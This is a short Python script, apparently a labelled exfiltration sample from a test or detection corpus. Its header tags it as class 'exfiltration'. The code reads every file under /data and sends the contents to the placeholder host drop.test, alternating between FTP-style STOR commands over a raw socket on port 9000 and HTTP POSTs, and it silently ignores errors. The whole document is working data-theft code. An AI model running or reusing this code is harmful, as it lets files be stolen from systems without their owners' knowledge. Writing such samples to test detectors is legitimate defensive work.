# class: exfiltration; possible: low medium; needs: data; style: FTP-like talk, chunks to the raw sink and the HTTP sink
import http.client
import os
import socket

parts = []
for entry in sorted(os.scandir("/data"), key=lambda e: e.name):
    if entry.is_file():
        with open(entry.path, "rb") as f:
            parts.append((entry.name, f.read()))
    else:
        for inner in os.scandir(entry.path):
            if inner.is_file():
                with open(inner.path, "rb") as f:
                    parts.append((inner.name, f.read()))
raw = socket.create_connection(("drop.test", 9000), 10)
for n, (name, data) in enumerate(parts):
    if n % 2:
        raw.sendall(b"STOR %s %d\r\n" % (name.encode(), len(data)) + data)
        continue
    web = http.client.HTTPConnection("drop.test", timeout=10)
    try:
        web.request("POST", "/f/" + name, data, {"Content-Type": "application/octet-stream"})
        web.getresponse().read()
    except OSError:
        pass
    web.close()
raw.close()
